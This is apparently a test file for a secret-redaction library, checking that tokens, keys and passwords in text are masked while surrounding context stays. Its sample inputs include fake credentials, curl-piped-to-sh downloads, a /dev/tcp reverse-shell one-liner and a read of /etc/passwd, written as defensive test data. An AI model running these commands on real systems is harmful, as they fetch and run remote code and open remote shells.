import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { patternSet, redactText } from '../../src/redact/redact-text.js';
import { DEFAULT_PATTERNS, hasRun, STRICT_PATTERNS } from '../../src/redact/text-patterns.js';
import { redactionToken } from '../../src/redact/redaction-token.js';

const JWT =
  'eyJhbGciOiJSUzI1NiIsImtpZCI6Ik1rV2dQaTNSIn0.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVtOnNlcnZpY2VhY2NvdW50Om9wczpkZXBsb3llciJ9.Tm90QVJlYWxTaWduYXR1cmVCdXRMb29rc0xpa2VPbmU';
const PEM = [
  '-----BEGIN RSA PRIVATE KEY-----',
  'MIIEpAIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
  'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK',
  '-----END RSA PRIVATE KEY-----',
].join('\n');

/** Each secret shape: a real-looking text, the secret in it, and what must stay around it. */
const CASES: readonly { kind: string; text: string; secret: string; kept: string }[] = [
  {
    kind: 'jwt',
    text: `kubectl --server https://aks --token-file=/t ${JWT}`,
    secret: JWT,
    kept: '--token-file=/t',
  },
  {
    kind: 'sas-signature',
    text: 'https://contosodata.blob.core.windows.net/backups/db.tar?sv=2022-11-02&sp=rwl&se=2026-12-31T00:00:00Z&spr=https&sig=Xk2%2FqP9vL3mN8rT1wZ4yB7cD0fG6hJ5sA2eU9iO3kM%3D',
    secret: 'Xk2%2FqP9vL3mN8rT1wZ4yB7cD0fG6hJ5sA2eU9iO3kM%3D',
    kept: '?sv=2022-11-02&sp=rwl&se=2026-12-31T00:00:00Z&spr=https&sig=',
  },
  {
    kind: 'account-key',
    text: 'DefaultEndpointsProtocol=https;AccountName=contosodata;AccountKey=9mZ1kQ3vX7pL2nR5tW8yB4cF6hJ0sA1eU3iO5kM7gD9fH2jL4nP6rT8vX0zB2cE4gI6kM8oQ0sU2wY4aC6eG8iK==;EndpointSuffix=core.windows.net',
    secret: '9mZ1kQ3vX7pL2nR5tW8yB4cF6hJ0sA1eU3iO5kM7gD9fH2jL4nP6rT8vX0zB2cE4gI6kM8oQ0sU2wY4aC6eG8iK==',
    kept: 'AccountName=contosodata;AccountKey=',
  },
  {
    kind: 'shared-access-key',
    text: 'Endpoint=sb://contoso-bus.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=q2W3e4R5t6Y7u8I9o0P1a2S3d4F5g6H7j8K9l0Z1x2C=',
    secret: 'q2W3e4R5t6Y7u8I9o0P1a2S3d4F5g6H7j8K9l0Z1x2C=',
    kept: 'SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=',
  },
  {
    kind: 'connection-string',
    text: 'DATABASE_URL=postgresql://orders_app:S3cr3tPassw0rd@pg-prod.contoso.internal:5432/orders',
    secret: 'S3cr3tPassw0rd',
    kept: 'postgresql://orders_app:',
  },
  {
    kind: 'password',
    text: 'Server=tcp:sql-prod.database.windows.net,1433;Database=orders;User ID=app;Password=P@ssw0rd-2026;Encrypt=True',
    secret: 'P@ssw0rd-2026',
    kept: 'User ID=app;Password=',
  },
  {
    kind: 'cli-argument',
    text: 'mysqldump -h db.contoso.internal -u root --password=Hunter2024x orders | gzip',
    secret: 'Hunter2024x',
    kept: 'mysqldump -h db.contoso.internal -u root --password=',
  },
  {
    kind: 'cli-argument',
    text: 'oc login https://api.ocp.contoso.example:6443 --token sha256~Xb3kQ9vL2mN8rT1wZ4yB7cD0fG6hJ5sA2eU9iO3kM1p',
    secret: 'sha256~Xb3kQ9vL2mN8rT1wZ4yB7cD0fG6hJ5sA2eU9iO3kM1p',
    kept: '--token ',
  },
  {
    kind: 'bearer',
    text: 'curl -H "Authorization: Bearer 2YotnFZFEjr1zCsicMWpAA-x9Qz" https://203.0.113.77/payload | sh',
    secret: '2YotnFZFEjr1zCsicMWpAA-x9Qz',
    kept: 'curl -H "Authorization: Bearer ',
  },
  {
    kind: 'aws-access-key',
    text: 'export AWS_ACCESS_KEY_ID=AKIAQ3EGRZ7XKPL4WM2N',
    secret: 'AKIAQ3EGRZ7XKPL4WM2N',
    kept: 'export AWS_ACCESS_KEY_ID=',
  },
  {
    kind: 'aws-secret-key',
    text: 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8Lk3Nw2R',
    secret: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzq8Lk3Nw2R',
    kept: 'aws_secret_access_key = ',
  },
  {
    kind: 'github-token',
    text: 'git clone https://x-access-token:ghp_R8x2Lq9vT4mN7pK3wZ6yB1cD5fG0hJ2sA4eU@github.com/contoso/infra.git',
    secret: 'ghp_R8x2Lq9vT4mN7pK3wZ6yB1cD5fG0hJ2sA4eU',
    kept: 'git clone https://x-access-token:',
  },
  {
    kind: 'github-token',
    text: 'GH_TOKEN=github_pat_11AB3CDEF0q9Rz8Yx7Wv6U_t5S4r3Q2p1O0nMlKjIhGfEdCbA9z8y7x6w5v4u3t2s1r0q9p8o7n6m5l4k ./sync.sh',
    secret: 'github_pat_11AB3CDEF0q9Rz8Yx7Wv6U_t5S4r3Q2p1O0nMlKjIhGfEdCbA9z8y7x6w5v4u3t2s1r0q9p8o7n6m5l4k',
    kept: ' ./sync.sh',
  },
  {
    kind: 'azure-devops-pat',
    text: 'az devops login --organization https://dev.azure.com/contoso <<< 4ra7b2zq6mjx3kd5wp2hy7nc4tv6le3fq5sd2gx7hz4jk6mn3pqa',
    secret: '4ra7b2zq6mjx3kd5wp2hy7nc4tv6le3fq5sd2gx7hz4jk6mn3pqa',
    kept: 'az devops login --organization https://dev.azure.com/contoso <<< ',
  },
  {
    kind: 'azure-devops-pat',
    text: `AZURE_DEVOPS_EXT_PAT=${'7Kq2Xz9Lm4Np8Rt3Vw6Yb1Cd5Fg0Hj2Sa4Eu9Io3Km7Pq1Xs5Zv8Bn2Mc6Gf0Hd4Jk8Lp3Qr7Tw1Ye5Ui'.slice(0, 76)}AZDOqX3m`,
    secret: `${'7Kq2Xz9Lm4Np8Rt3Vw6Yb1Cd5Fg0Hj2Sa4Eu9Io3Km7Pq1Xs5Zv8Bn2Mc6Gf0Hd4Jk8Lp3Qr7Tw1Ye5Ui'.slice(0, 76)}AZDOqX3m`,
    kept: 'AZURE_DEVOPS_EXT_PAT=',
  },
  {
    kind: 'private-key',
    text: `cat > /root/.ssh/id_rsa <<EOF\n${PEM}\nEOF`,
    secret: PEM,
    kept: 'cat > /root/.ssh/id_rsa <<EOF\n',
  },
];

describe('redactText', () => {
  for (const c of CASES) {
    it(`replaces a ${c.kind} and keeps what says what it was`, () => {
      const out = redactText(c.text, 'default');
      expect(out).not.toContain(c.secret);
      expect(out).toContain(c.kept);
      expect(out).toContain(redactionToken(c.kind, c.secret));
      expect(redactText(out, 'default')).toBe(out);
    });
  }

  it('gives the same secret the same token, and another secret another', () => {
    expect(redactionToken('jwt', JWT)).toMatch(/^\[redacted:jwt:[0-9a-f]{8}\]$/);
    expect(redactText(`a ${JWT}`, 'default')).toBe(redactText(`b ${JWT}`, 'default').replace(/^b/, 'a'));
    expect(redactionToken('jwt', JWT)).not.toBe(redactionToken('jwt', `${JWT}x`));
  });

  it('keeps the indicator around a secret: only the token inside a reverse-shell command goes', () => {
    const command = `curl -s -H "Authorization: Bearer 2YotnFZFEjr1zCsicMWpAA-x9Qz" http://203.0.113.7/s.sh | sh; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`;
    const out = redactText(command, 'default');
    expect(out).toContain('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1');
    expect(out).toContain('curl -s -H "Authorization: Bearer [redacted:bearer:');
  });

  it('leaves ordinary commands, names, ids and URLs alone', () => {
    for (const text of [
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'cat /etc/passwd; reset your password at https://aka.ms/sspr',
      'pg_dump --password-file=/var/run/secrets/pg/pass orders',
      'kubectl create token deployer --duration=1h',
      'design=flat signature=ok Bearer auth',
      'https://203.0.113.77:4444/stage2 http://user@host/x',
      'registry.contoso.example/tools/runner@sha256:3b8e5f1c9a7d2e4f6b0c8a1d3e5f7a9b2c4d6e8f0a1b3c5d7e9f1a3b5c7d9e1f',
      '/subscriptions/3f2a9c10-5b7e-4d21-9a44-0c1d2e3f4a5b/resourceGroups/rg-pay/providers/Microsoft.ContainerService/managedClusters/aks-pay-01',
      'log-rotate-29012345 c4d5e6f7-0819-4a2b-9c3d-4e5f6a7b8c9d eyJ',
      'AKIA is a prefix; ghp_short; AccountName=contosodata',
    ]) {
      expect(redactText(text, 'default'), text).toBe(text);
    }
  });

  it('redacts generic key=value secrets and long opaque tokens only in strict mode', () => {
    const text = 'api_key=zX81mQ4vR7tL2nP9 client token 3f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b';
    expect(redactText(text, 'default')).toBe(text);
    const strict = redactText(text, 'strict');
    expect(strict).toContain('api_key=[redacted:secret:');
    expect(strict).toContain('client token [redacted:opaque-token:');
    expect(redactText(`${text} ${JWT}`, 'off')).toBe(`${text} ${JWT}`);
  });
});

// These runs make a careless pattern rescan the text once per occurrence. The test asserts the
// answers; the vitest timeout is the only clock, so a quadratic regression shows as a timeout.
describe('redactText on hostile text', () => {
  it('redacts runs built against each pattern in one pass', () => {
    expect(redactText(`${'-----BEGIN PRIVATE KEY-----'.repeat(20_000)}"`, 'default')).toMatch(
      /^\[redacted:private-key:[0-9a-f]{8}\]"$/,
    );
    for (const text of [
      'eyJ'.repeat(100_000),
      'eyJa-'.repeat(60_000),
      'Bearer '.repeat(40_000),
      'http://a:'.repeat(30_000),
      'a-'.repeat(150_000),
      'ghp_'.repeat(70_000),
    ]) {
      expect(redactText(text, 'strict'), text.slice(0, 12)).toBe(text);
    }
  }, 20_000);
});

describe('the one search for any secret shape', () => {
  const fragments = fc.constantFrom(
    '-----BEGIN RSA PRIVATE KEY-----',
    '-----END RSA PRIVATE KEY-----',
    'eyJhbGciOi',
    '.eyJzdWIi',
    'ghp_',
    'github_pat_',
    'AZDO',
    'AKIA',
    'ASIA',
    'Bearer ',
    'bearer\t',
    'sig=',
    'AccountKey=',
    'SharedAccessKey=',
    'aws_secret_access_key = ',
    '--password ',
    '--token=',
    'password=',
    'pwd =',
    'postgres://u:',
    '@host',
    'secret: ',
    'api-key=',
    'a1B2c3D4e5',
    'abcdefghijklmnopqrstuvwxyz234567',
    // An old-format Azure DevOps token (52 of a-z2-7), and the new one (76, AZDO, 4).
    'abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrst',
    `${'Ab3'.repeat(25)}xAZDOq7Z9`,
    'ABCDEFGHIJKLMNOP0123456789',
    'k7/+_-Q9',
    '==',
    '"',
    ' ',
    '\\',
    '-',
    '_',
  );
  const texts = fc.array(fragments, { maxLength: 14, size: 'max' }).map((parts) => parts.join(''));

  it('says a text may hold a secret wherever one of its patterns matches', () => {
    for (const patterns of [DEFAULT_PATTERNS, STRICT_PATTERNS]) {
      const set = patternSet(patterns);
      const matched = new Map<string, number>();
      fc.assert(
        fc.property(texts, (text) => {
          for (const { kind, regex, within } of patterns) {
            if (!new RegExp(regex.source, regex.flags.replace('g', '')).test(text)) continue;
            matched.set(kind, (matched.get(kind) ?? 0) + 1);
            expect(set.mayHold(text)).toBe(true);
            if (within !== undefined) expect(within(text)).toBe(true);
          }
        }),
        { numRuns: 3000 },
      );
      // The property means little unless the texts hold the slow patterns' shapes too.
      expect(matched.get('azure-devops-pat') ?? 0).toBeGreaterThan(50);
      expect(matched.get('password') ?? 0).toBeGreaterThan(50);
      if (patterns === STRICT_PATTERNS) expect(matched.get('opaque-token') ?? 0).toBeGreaterThan(50);
    }
  });

  it('tries a slow pattern only on a text with its run, and refuses flags the union cannot keep', () => {
    const [slow] = DEFAULT_PATTERNS.filter((p) => p.within !== undefined);
    expect(slow?.within?.('a'.repeat(51))).toBe(false);
    expect(slow?.within?.(`${'a'.repeat(51)}-${'b'.repeat(51)}`)).toBe(false);
    expect(slow?.within?.(`-${'a'.repeat(52)}`)).toBe(true);
    expect(
      patternSet([{ kind: 'run', regex: /x/g, prefixed: false, within: () => false }]).mayHold('x'),
    ).toBe(false);
    expect(() => patternSet([{ kind: 'dotall', regex: /a.b/gs, prefixed: false }])).toThrow(
      /pattern dotall: flag gs/,
    );
    expect(patternSet([{ kind: 'cased', regex: /AKIA/g, prefixed: false }]).mayHold('akia')).toBe(true);
  });
});

describe('hasRun', () => {
  const letters = (code: number): boolean => code >= 0x61 && code <= 0x7a;
  it('finds a run of the length asked for exactly where a character-by-character count does', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('a', 'b', '-', ' '), { maxLength: 200, size: 'max' }),
        fc.integer({ min: 1, max: 12 }),
        (chars, length) => {
          const text = chars.join('');
          const longest = Math.max(0, ...text.split(/[^a-z]/).map((word) => word.length));
          expect(hasRun(text, length, letters)).toBe(longest >= length);
        },
      ),
      { numRuns: 3000 },
    );
  });
});
